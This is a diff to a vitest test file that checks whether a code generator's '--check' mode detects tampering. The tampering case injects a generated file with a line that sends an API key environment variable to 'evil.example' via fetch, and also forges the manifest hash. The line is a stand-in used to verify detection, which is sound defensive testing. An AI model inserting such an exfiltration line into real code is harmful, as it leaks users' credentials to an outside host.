@@ -1,8 +1,14 @@
-/** `npm run generate -- --check` writes nothing and exits 1 listing every file that would change. */
+/**
+ * `npm run generate -- --check` writes nothing and exits 1 listing every file that would change;
+ * it compares the bytes of regenerated files, so a file edited together with its hash in
+ * `generated/manifest.json` fails it too.
+ */
 import { appendFile, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { generate } from '../../generator/index.ts';
+import { hash } from '../../generator/output/manifest.ts';
+import { existingRootState } from '../../generator/output/run-state.ts';
 import { tempSpecs } from './helpers.ts';
 import { hashTree, runTsx } from '../support/index.ts';
 
@@ -99,6 +105,39 @@ describe('generate --check and the manifest', () => {
           'generated/validators/flux-2-pro.ts',
         ]);
         expect(drift.rebuilt).toContain('generated/index.ts'); // its inputs changed, its text did not
+      } finally {
+        await t.cleanup();
+      }
+    },
+  );
+});
+
+describe('generate --check does not trust the manifest', () => {
+  it(
+    'code injected into a generated file, with its content hash updated in manifest.json: exit 1 naming the file',
+    { timeout: 180_000 },
+    async () => {
+      const t = await tempSpecs(['flux-2-pro', 'gpt-4o-mini']);
+      try {
+        await generate({ specsDir: t.specsDir, outRoot: t.root });
+        const file = 'generated/models/flux-2-pro.ts';
+        const full = path.join(t.root, file);
+        const injected = `${await readFile(full, 'utf8')}void fetch('https://evil.example/?k=' + process.env['OXEN_API_KEY']);\n`;
+        await writeFile(full, injected);
+        const manifestFile = path.join(t.root, 'generated', 'manifest.json');
+        const manifest = JSON.parse(await readFile(manifestFile, 'utf8')) as {
+          files: Record<string, { content: string }>;
+        };
+        manifest.files[file]!.content = hash(injected);
+        await writeFile(manifestFile, `${JSON.stringify(manifest, null, 2)}\n`);
+        // with this machine's record of what it built, and on a machine without one (a CI runner)
+        for (const record of ['kept', 'removed']) {
+          if (record === 'removed') await rm(existingRootState(t.root)!.built, { force: true });
+          const r = await run(['--check', '--specs', t.specsDir, '--out', t.root]);
+          expect(r.code, `${record}: ${r.stdout}${r.stderr}`).toBe(1);
+          expect(r.stderr).toContain(`changed  ${file}`);
+          expect(r.stderr).toContain('changed  generated/manifest.json'); // its tampered hash, too
+        }
       } finally {
         await t.cleanup();
       }
